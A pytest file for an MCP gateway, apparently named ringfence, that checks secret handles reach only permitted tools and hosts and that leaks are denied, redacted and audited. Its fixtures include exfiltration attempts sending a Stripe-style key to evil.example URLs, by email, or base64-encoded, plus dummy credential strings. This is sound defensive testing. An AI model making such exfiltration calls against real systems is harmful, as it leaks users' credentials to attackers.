"""Secret handles through the gateway: exfiltration attempts are denied or redacted, and recorded.

The upstream is a real SDK ``Server`` reached in-process, as in test_gateway.py.  Its tools
do what an exfiltration would need: send a request anywhere, echo what they get (plainly and
base64-encoded), leak secret-looking data of their own, and fail with the argument in the
error message.
"""

from __future__ import annotations

import base64
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import MCPError
from mcp.server import Server, ServerRequestContext
from nacl.signing import SigningKey

import ringfence
from ringfence.adapters.mcp.config import config_from_text
from ringfence.adapters.mcp.gateway import Connection, Gateway, GatewayError
from ringfence.adapters.mcp.secrets import redacting
from ringfence.core.audit.encoding import decode
from ringfence.errors import SecretError
from ringfence.runtime.audit import AuditLog
from ringfence.runtime.broker import RedactingLogFilter, SecretBroker
from ringfence.runtime.guard import Enforcement, Guard
from ringfence.runtime.secrets import MemorySource, SecretSource
from ringfence.stores.memory import MemoryAuditStore

pytestmark = pytest.mark.anyio

STRIPE = "sk_live_51HqLrT2eZvKYlo2CabcDEF"
TOKEN = "echo-token-7f3a9c2e5b"
POLICY = """
version: 1
tools:
  up__http_request:
    args:
      type: object
      properties: {url: {type: string}, headers: {type: object}, body: {type: string}}
    resources: {url: url}
secrets:
  stripe_key: {tools: [up__http_request], hosts: [api.stripe.com]}
  echo_token: {tools: ["up__echo*", up__fail]}
rules:
  - {id: everything, effect: allow, tool: "up__*"}
  - {id: prompts, effect: allow, kind: mcp_request, tool: "up__prompts/get"}
"""
OBJECT = {"type": "object"}
TOOLS = {
    "http_request": OBJECT,
    "echo": OBJECT,
    "echo_b64": OBJECT,
    "leak_format": OBJECT,
    "fail": OBJECT,
    "send_email": OBJECT,
    "search": OBJECT,
}


def upstream_server(calls: list[tuple[str, dict[str, Any]]]) -> Server[Any]:
    async def list_tools(ctx: ServerRequestContext[Any], params: Any) -> types.ListToolsResult:
        return types.ListToolsResult(
            tools=[
                types.Tool(name=n, description=f"The {n} tool.", input_schema=s)
                for n, s in TOOLS.items()
            ]
        )

    async def call_tool(
        ctx: ServerRequestContext[Any], params: types.CallToolRequestParams
    ) -> types.CallToolResult:
        args = dict(params.arguments or {})
        calls.append((params.name, args))
        text = str(args.get("text", ""))
        if params.name == "echo":
            return types.CallToolResult(
                content=[types.TextContent(text=f"you said: {text}")],
                structured_content={"said": text},
            )
        if params.name == "echo_b64":
            encoded = base64.b64encode(f"user:{text}".encode()).decode()
            return types.CallToolResult(content=[types.TextContent(text=f"Basic {encoded}")])
        if params.name == "leak_format":
            return types.CallToolResult(
                content=[types.TextContent(text="found AKIAIOSFODNN7EXAMPLE in the config")],
                structured_content={"db": {"password": "hunter22"}},
            )
        if params.name == "fail":
            return types.CallToolResult(
                content=[types.TextContent(text=f"error: invalid credential {text}")],
                is_error=True,
            )
        return types.CallToolResult(content=[types.TextContent(text=f"{params.name}: done")])

    async def list_prompts(ctx: ServerRequestContext[Any], params: Any) -> types.ListPromptsResult:
        return types.ListPromptsResult(prompts=[types.Prompt(name="greet")])

    async def get_prompt(
        ctx: ServerRequestContext[Any], params: types.GetPromptRequestParams
    ) -> types.GetPromptResult:
        text = f"Hello {(params.arguments or {}).get('who', '?')}"
        return types.GetPromptResult(
            messages=[types.PromptMessage(role="user", content=types.TextContent(text=text))]
        )

    return Server(
        "up",
        on_list_tools=list_tools,
        on_call_tool=call_tool,
        on_list_prompts=list_prompts,
        on_get_prompt=get_prompt,
    )


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


class Env:
    def __init__(
        self,
        gateway: Gateway,
        log: AuditLog,
        calls: list[tuple[str, dict[str, Any]]],
        source: SecretSource,
    ) -> None:
        self.gateway = gateway
        self.log = log
        self.calls = calls
        self.source = source
        self.conn = Connection(gateway.config.identity, session="s-1")

    async def call(self, name: str, args: dict[str, Any]) -> types.CallToolResult:
        return await self.gateway.call_tool(self.conn, name, args)

    def records(self) -> list[dict[str, Any]]:
        return [decode(d) for _, d in self.log.store.records()]

    def last(self, type_: str) -> dict[str, Any]:
        return [r for r in self.records() if r["type"] == type_][-1]

    def assert_log_holds_no_secret(self) -> None:
        data = b"".join(d for _, d in self.log.store.records())
        for value in (STRIPE, TOKEN, "sk_live_ROTATED0000000000000"):
            assert value.encode() not in data
            assert base64.b64encode(value.encode()) not in data
            assert value.encode().hex().encode() not in data


async def run_env(
    tmp_path: Path,
    *,
    source: SecretSource | None = None,
    enforcement: Enforcement = Enforcement.ENFORCE,
) -> AsyncIterator[Env]:
    config = config_from_text(
        textwrap.dedent(
            """\
            policy: policy.yaml
            data_dir: data
            record_results: content
            identity: {agent: tester}
            servers:
              up:
                command: unused
                tools:
                  search: {proxies: {tool: name, arguments: args}}
            """
        ),
        base=str(tmp_path),
    )
    log = AuditLog(MemoryAuditStore(log_id="t"), SigningKey.generate(), checkpoint_every=10_000)
    guard = Guard(
        ringfence.policy_from_text(textwrap.dedent(POLICY)),
        audit=log,
        agent="tester",
        enforcement=enforcement,
    )
    source = source or MemorySource({"stripe_key": STRIPE, "echo_token": TOKEN})
    broker = SecretBroker(source, lambda: guard.policy.spec.secrets)
    calls: list[tuple[str, dict[str, Any]]] = []
    server = upstream_server(calls)
    gateway = Gateway(config, guard, transports={"up": lambda: server}, secrets=broker)
    async with anyio.create_task_group() as tg:
        await tg.start(gateway.run)
        try:
            yield Env(gateway, log, calls, source)
        finally:
            gateway.stop()
    log.close()


@pytest.fixture
async def env(tmp_path: Path) -> AsyncIterator[Env]:
    async for e in run_env(tmp_path):
        yield e


STRIPE_CALL = {
    "url": "https://api.stripe.com/v1/charges",
    "headers": {"Authorization": "Bearer rf-secret:stripe_key"},
}


def denied(result: types.CallToolResult) -> tuple[list[str], str]:
    assert result.is_error
    meta = (result.meta or {})["io.ringfence/decision"]
    return meta["rules"], meta["reasons"][0]


# -- the allowed path ------------------------------------------------------------------------


async def test_a_handle_reaches_the_allowed_host_as_the_value(env: Env) -> None:
    result = await env.call("up__http_request", STRIPE_CALL)
    assert not result.is_error
    assert env.calls == [
        ("http_request", {**STRIPE_CALL, "headers": {"Authorization": f"Bearer {STRIPE}"}})
    ]
    decision = env.last("decision")
    assert decision["effect"] == "allow"
    assert decision["args"]["headers"] == {"Authorization": "Bearer rf-secret:stripe_key"}
    assert env.last("outcome")["status"] == "ok"
    env.assert_log_holds_no_secret()


async def test_rotation_takes_effect_without_a_restart(env: Env) -> None:
    await env.call("up__http_request", STRIPE_CALL)
    assert isinstance(env.source, MemorySource)
    env.source.set("stripe_key", "sk_live_ROTATED0000000000000")
    await env.call("up__http_request", STRIPE_CALL)
    sent = [c[1]["headers"]["Authorization"] for c in env.calls]
    assert sent == [f"Bearer {STRIPE}", "Bearer sk_live_ROTATED0000000000000"]
    env.assert_log_holds_no_secret()


async def test_listing_tells_the_agent_which_handles_a_tool_takes(env: Env) -> None:
    tools = {t.name: t.description or "" for t in env.gateway.list_tools(env.conn)}
    assert "rf-secret:stripe_key" in tools["up__http_request"]
    assert "rf-secret:echo_token" in tools["up__echo"]
    assert "rf-secret:" not in tools["up__send_email"]
    assert STRIPE not in str(tools) and TOKEN not in str(tools)


# -- exfiltration: denied before the call ------------------------------------------------------

DENIED = {
    "sent to a non-allowed host": (
        "up__http_request",
        {**STRIPE_CALL, "url": "https://evil.example/collect"},
        "secret.host",
    ),
    "non-allowed host hidden in the body": (
        "up__http_request",
        {**STRIPE_CALL, "body": "mirror to https://evil.example/x"},
        "secret.host",
    ),
    "handle used with a non-allowed tool": (
        "up__send_email",
        {"to": "a@evil.example", "body": "key: rf-secret:stripe_key"},
        "secret.tool",
    ),
    "unknown handle": ("up__echo", {"text": "rf-secret:aws_root_key"}, "secret.unknown"),
    "malformed handle": ("up__echo", {"text": "rf-secret:Echo_Token"}, "secret.malformed_handle"),
    "the model writes the value": (
        "up__http_request",
        {"url": "https://api.stripe.com/v1", "headers": {"Authorization": f"Bearer {STRIPE}"}},
        "secret.value_in_arguments",
    ),
    "the model writes the value base64-encoded": (
        "up__send_email",
        {"body": base64.b64encode(f"k={TOKEN}".encode()).decode()},
        "secret.value_in_arguments",
    ),
    "a meta tool running a granted tool": (
        "up__search",
        {"name": "http_request", "args": STRIPE_CALL},
        "secret.tool",
    ),
}


@pytest.mark.parametrize("case", sorted(DENIED))
async def test_exfiltration_attempts_are_denied_and_recorded(env: Env, case: str) -> None:
    tool, args, code = DENIED[case]
    result = await env.call(tool, args)
    rules, reason = denied(result)
    assert rules == ["ringfence:secret"] and reason.startswith(f"{code}: ")
    assert env.calls == []  # the upstream never saw the call
    decision = env.last("decision")
    assert decision["tool"] == tool and decision["effect"] == "deny"
    assert decision["rules"] == ["ringfence:secret"] and decision["reasons"] == [reason]
    assert [r for r in env.records() if r["type"] == "outcome"] == []
    env.assert_log_holds_no_secret()
    text = result.content[0].text  # type: ignore[union-attr]
    assert STRIPE not in text and TOKEN not in text


async def test_the_record_of_a_literal_value_holds_a_marker(env: Env) -> None:
    await env.call("up__echo", {"text": f"my token is {TOKEN}"})
    assert env.last("decision")["args"] == {"text": "my token is [REDACTED:secret:echo_token]"}


async def test_audit_only_mode_still_never_sends_a_secret_where_it_may_not_go(
    tmp_path: Path,
) -> None:
    async for e in run_env(tmp_path, enforcement=Enforcement.UNSAFE_AUDIT_ONLY):
        result = await e.call("up__http_request", {**STRIPE_CALL, "url": "https://evil.example/"})
        assert result.is_error and e.calls == []
        assert "secret.host" in result.content[0].text  # type: ignore[union-attr]
        e.assert_log_holds_no_secret()


class BrokenSource:
    def get(self, name: str) -> str | None:
        raise SecretError("secrets.enc failed authentication", code="secret.file.tampered")

    def names(self) -> list[str]:
        raise SecretError("secrets.enc failed authentication", code="secret.file.tampered")


async def test_an_unreadable_store_denies_calls_with_handles(tmp_path: Path) -> None:
    async for e in run_env(tmp_path, source=BrokenSource()):
        rules, reason = denied(await e.call("up__http_request", STRIPE_CALL))
        assert rules == ["ringfence:secret"] and reason.startswith("secret.file.tampered:")
        assert e.calls == []
        ok = await e.call("up__send_email", {"body": "no secrets here"})
        assert not ok.is_error  # calls without handles are unaffected


# -- exfiltration: echoed back -----------------------------------------------------------------


async def test_a_tool_echoing_the_value_is_redacted_and_labels_the_session(env: Env) -> None:
    result = await env.call("up__echo", {"text": "rf-secret:echo_token"})
    assert env.calls == [("echo", {"text": TOKEN})]
    assert not result.is_error
    assert result.content[0].text == "you said: [REDACTED:secret:echo_token]"  # type: ignore[union-attr]
    assert result.structured_content == {"said": "[REDACTED:secret:echo_token]"}
    redacted = (result.meta or {})["io.ringfence/redacted"]
    assert {"kind": "secret:echo_token", "pointer": "/content/0/text"} | {
        "secret": "echo_token",
        "encoding": "raw",
    } in redacted
    assert "secret" in env.gateway.guard.session_labels("s-1")
    outcome = env.last("outcome")
    assert "secret" in outcome["labels"]
    assert outcome["content"]["content"][0]["text"] == "you said: [REDACTED:secret:echo_token]"
    env.assert_log_holds_no_secret()


async def test_a_tool_echoing_the_value_base64_encoded_is_redacted(env: Env) -> None:
    result = await env.call("up__echo_b64", {"text": "rf-secret:echo_token"})
    assert result.content[0].text == "Basic [REDACTED:secret:echo_token]"  # type: ignore[union-attr]
    assert (result.meta or {})["io.ringfence/redacted"][0]["encoding"] == "base64"
    assert "secret" in env.gateway.guard.session_labels("s-1")
    env.assert_log_holds_no_secret()


async def test_secret_formats_in_a_result_are_redacted_and_labelled(env: Env) -> None:
    result = await env.call("up__leak_format", {})
    assert result.content[0].text == "found [REDACTED:aws-access-key-id] in the config"  # type: ignore[union-attr]
    assert result.structured_content == {"db": {"password": "[REDACTED:credential-field]"}}
    assert "secret" in env.gateway.guard.session_labels("s-1")
    data = b"".join(d for _, d in env.log.store.records())
    assert b"AKIAIOSFODNN7EXAMPLE" not in data and b"hunter22" not in data


async def test_a_tool_error_with_the_value_is_redacted(env: Env) -> None:
    result = await env.call("up__fail", {"text": "rf-secret:echo_token"})
    assert env.calls == [("fail", {"text": TOKEN})]
    assert result.is_error
    assert result.content[0].text == (  # type: ignore[union-attr]
        "error: invalid credential [REDACTED:secret:echo_token]"
    )
    outcome = env.last("outcome")
    assert outcome["status"] == "error" and "secret" in outcome["labels"]
    env.assert_log_holds_no_secret()


async def test_upstream_protocol_errors_are_redacted(env: Env) -> None:
    error = GatewayError(-32000, f"bad key {TOKEN}", {"detail": f"key={STRIPE}", "n": 1})
    scrubbed = env.gateway._scrub_error(error)
    assert scrubbed.code == -32000
    assert scrubbed.message == "bad key [REDACTED:secret:echo_token]"
    assert scrubbed.data == {"detail": "key=[REDACTED:secret:stripe_key]", "n": 1}
    recorded = env.gateway._scrub(MCPError(-32000, f"bad key {TOKEN}"))
    assert isinstance(recorded, SecretError) and recorded.code == "secret.in_error"
    assert str(recorded) == "MCPError: bad key [REDACTED:secret:echo_token]"
    plain = MCPError(-32000, "nothing secret")
    assert env.gateway._scrub(plain) is plain


async def test_progress_messages_are_redacted(env: Env) -> None:
    seen: list[str | None] = []

    async def progress(value: float, total: float | None, message: str | None) -> None:
        seen.append(message)

    assert env.gateway.secrets is not None
    relay = redacting(env.gateway.secrets, progress)
    await relay(1.0, 2.0, f"uploading with {TOKEN}")
    await relay(2.0, 2.0, None)
    assert seen == ["uploading with [REDACTED:secret:echo_token]", None]


# -- requests that are not tool calls ----------------------------------------------------------


async def test_prompts_with_a_value_or_a_handle_are_refused(env: Env) -> None:
    for who in (TOKEN, "rf-secret:echo_token"):
        with pytest.raises(GatewayError) as info:
            await env.gateway.get_prompt(env.conn, "up__greet", {"who": who})
        assert info.value.code == -32003
        assert info.value.data is not None and info.value.data["rules"] == ["ringfence:secret"]
    got = await env.gateway.get_prompt(env.conn, "up__greet", {"who": "ann"})
    assert got.messages[0].content.text == "Hello ann"  # type: ignore[union-attr]
    env.assert_log_holds_no_secret()


# -- wiring ------------------------------------------------------------------------------------


def test_a_child_server_never_inherits_secret_variables(monkeypatch: pytest.MonkeyPatch) -> None:
    from ringfence.adapters.mcp import upstream as upstream_module
    from ringfence.adapters.mcp.config import ServerConfig

    seen: list[Any] = []
    monkeypatch.setattr(
        upstream_module, "pipe_client", lambda params, lane, **_: seen.append(params)
    )
    monkeypatch.setenv("RINGFENCE_SECRET_STRIPE_KEY", STRIPE)
    monkeypatch.setenv("RINGFENCE_SECRETS_KEY", "a-key")
    monkeypatch.setenv("ORDINARY_VARIABLE", "kept")
    config = ServerConfig(command="server", inherit_env=True, env={"EXTRA": "1"})
    upstream_module.Upstream("up", config)._transport()
    (params,) = seen
    assert params.env["ORDINARY_VARIABLE"] == "kept" and params.env["EXTRA"] == "1"
    assert "RINGFENCE_SECRET_STRIPE_KEY" not in params.env
    assert "RINGFENCE_SECRETS_KEY" not in params.env


def test_the_gateway_opens_a_broker_when_the_policy_or_config_names_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import logging

    from ringfence.adapters.mcp.run import _secret_broker
    from ringfence.stores.secretfile import create_key_file

    monkeypatch.delenv("RINGFENCE_SECRETS_KEY", raising=False)
    monkeypatch.setenv("RINGFENCE_SECRET_STRIPE_KEY", STRIPE)
    config = config_from_text(
        "policy: p.yaml\ndata_dir: data\nservers: {up: {command: x}}\n", base=str(tmp_path)
    )
    log = AuditLog(MemoryAuditStore(log_id="t"), SigningKey.generate())
    plain = Guard(
        ringfence.policy_from_text("version: 1\nrules: [{id: a, effect: deny}]"), audit=log
    )
    assert _secret_broker(config, plain) is None  # nothing speaks of secrets: no broker
    guard = Guard(ringfence.policy_from_text(textwrap.dedent(POLICY)), audit=log)
    root = logging.getLogger()
    handler = logging.NullHandler()
    root.addHandler(handler)
    try:
        broker = _secret_broker(config, guard)
        assert broker is not None and broker.source.get("stripe_key") == STRIPE
        assert handler.filters  # the log filter is on the root logger's handlers
        # A secret file that does not open stops the gateway at start, with the reason.
        create_key_file(tmp_path / "data" / "keys" / "secrets.key")
        (tmp_path / "data" / "secrets.enc").write_bytes(b"RFSECRETS\x01" + b"\0" * 60)
        with pytest.raises(SecretError) as info:
            _secret_broker(config, guard)
        assert info.value.code == "secret.file.wrong_key"
    finally:
        for h in root.handlers:  # the filter holds this test's broker: take it off again
            for f in [f for f in h.filters if isinstance(f, RedactingLogFilter)]:
                h.removeFilter(f)
        root.removeHandler(handler)
        log.close()


async def test_a_value_rotated_in_the_encrypted_file_is_used_without_a_restart(
    tmp_path: Path,
) -> None:
    from ringfence.stores.secretfile import (
        EncryptedFileSource,
        StoredSecret,
        create_key_file,
        update_secret_file,
    )

    path, key_file = tmp_path / "secrets.enc", tmp_path / "secrets.key"
    ring = create_key_file(key_file)

    def put(value: str) -> None:
        update_secret_file(path, ring, lambda s: {**s, "stripe_key": StoredSecret(value, 0)})

    put(STRIPE)
    source = EncryptedFileSource(path, key_file, environ={})
    async for e in run_env(tmp_path, source=source):
        await e.call("up__http_request", STRIPE_CALL)
        put("sk_live_ROTATED0000000000000")  # what `ringfence secrets set` does
        await e.call("up__http_request", STRIPE_CALL)
        sent = [c[1]["headers"]["Authorization"] for c in e.calls]
        assert sent == [f"Bearer {STRIPE}", "Bearer sk_live_ROTATED0000000000000"]
        result = await e.call("up__echo", {"text": f"old {STRIPE}"})
        rules, _ = denied(result)  # the old value is still known: refused in arguments
        assert rules == ["ringfence:secret"]
        e.assert_log_holds_no_secret()


def test_a_result_that_cannot_be_redacted_in_place_is_withheld() -> None:
    from ringfence.adapters.mcp.secrets import redact_result, withheld_result

    # A (silly) secret whose value is a word the protocol itself uses: the content type.
    broker = SecretBroker(MemorySource({"x": "text"}), {})
    result = types.CallToolResult(content=[types.TextContent(type="text", text="hello")])
    dump = result.model_dump(mode="json", by_alias=True, exclude_none=True)
    redacted, meta, found = redact_result(broker, types.CallToolResult, dump)
    assert redacted is None and found
    withheld = withheld_result(meta)
    assert withheld.is_error and "withheld" in withheld.content[0].text  # type: ignore[union-attr]
    assert "text" not in str((withheld.meta or {}).get("io.ringfence/redacted"))
